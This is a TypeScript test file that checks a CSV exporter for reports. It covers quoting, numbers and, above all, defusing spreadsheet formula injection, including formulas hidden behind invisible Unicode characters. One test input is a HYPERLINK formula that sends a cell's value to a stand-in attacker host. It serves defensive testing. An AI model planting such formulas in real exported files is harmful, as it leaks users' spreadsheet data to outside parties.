import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  csvBom,
  csvRow,
  reportCsv,
  reportCsvHeader,
} from '../../../../components/reports/export/csv.ts';
import { aReport } from '../../../support/builders/values.ts';

/**
 * Reads one row as RFC 4180 defines it, with code of its own, so that writer and reader cannot
 * share a mistake.
 */
function readRow(text: string): string[] {
  const rest = text.replace(/\r\n$/, '');
  return [...`,${rest}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
}

describe('a row of CSV', () => {
  test('comes back as it was, whatever stands in it, but for what would run as a formula', () => {
    const harmless = fc
      .string({ unit: 'grapheme' })
      .filter((text) => !/[=+\-@＝＋－＠]|^[\t\r\n]/u.test(text));
    fc.assert(
      fc.property(fc.array(harmless, { minLength: 1 }), (values) => {
        expect(readRow(csvRow(values))).toEqual(values);
      }),
    );
  });

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    ' =1',
    '＝1+1',
    '=HYPERLINK("https://evil.example?"&A1,"x")',
  ])('with %j runs nothing', (text) =>
    expect(readRow(csvRow([text, 'b']))).toEqual([`'${text}`, 'b']),
  );

  test.each([
    ['a zero-width space', 0x20_0b],
    ['a zero-width joiner', 0x20_0d],
    ['a left-to-right mark', 0x20_0e],
    ['an Arabic letter mark', 0x6_1c],
    ['an override', 0x20_2e],
    ['an isolate', 0x20_66],
    ['a word joiner', 0x20_60],
    ['a byte order mark', 0xfe_ff],
    ['a no-break space', 0xa0],
    ['a line separator', 0x20_28],
    ['a soft hyphen', 0xad],
    ['a Hangul filler', 0x31_64],
    ['a variation selector', 0xfe_0f],
    ['a tag', 0xe_00_41],
    ['nothing that is printed', 0],
  ])('runs nothing behind %s', (_name, code) => {
    const mark = String.fromCodePoint(code);
    expect(readRow(csvRow([`${mark}=1+1`, `${mark} ${mark}@SUM(A1)`]))).toEqual([
      `'${mark}=1+1`,
      `'${mark} ${mark}@SUM(A1)`,
    ]);
    expect(readRow(csvRow([`${mark}a=1`]))).toEqual([`${mark}a=1`]);
  });

  test('leaves text that looks like a number as the service sent it, which other programs look for', () => {
    expect(csvRow(['0012', '1e5', '12345678901234567890', '1/2', 'TRUE', '7.10'])).toBe(
      '0012,1e5,12345678901234567890,1/2,TRUE,7.10\r\n',
    );
  });

  test('leaves numbers as numbers, and what is not there empty', () => {
    expect(csvRow([-1, 0, null, undefined, true, ''])).toBe('-1,0,,,true,\r\n');
  });

  test('quotes what a spreadsheet would split or trim', () => {
    expect(csvRow(['a,b', 'a;b', 'say "x"', 'a\r\nb', ' a'])).toBe(
      '"a,b","a;b","say ""x""","a\r\nb"," a"\r\n',
    );
  });
});

test('A report is a row with the names and the values of the interface, its privacy in words and the address of its page', () => {
  const report = aReport({
    id: '7',
    url: 'example.com/a,b',
    result: 'good',
    generatedAt: 0,
    project: null,
  });
  expect(reportCsvHeader).toBe(
    'id,url,result,score,generated_at,privacy,password,project,link,categories\r\n',
  );
  expect(reportCsv(report, 'https://reports.example.org/7')).toBe(
    '7,"example.com/a,b",good,90,1970-01-01T00:00:00.000Z,private,false,,https://reports.example.org/7,\r\n',
  );
  expect(
    reportCsv({ ...report, privacy: 0, generatedAt: null, result: null, score: null }, null),
  ).toBe('7,"example.com/a,b",,,,public,false,,,\r\n');
  // Some services keep the password that a report had before it became public.
  expect(reportCsv({ ...report, privacy: 0, hasPassword: true }, null)).toContain(',public,false,');
  const categories = { performance: 71, accessibility: 40, seo: null };
  expect(reportCsv({ ...report, categories }, null)).toContain(
    ',categoryScore · categoryScore · categoryScore\r\n',
  );
  expect(new TextEncoder().encode(csvBom)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
});
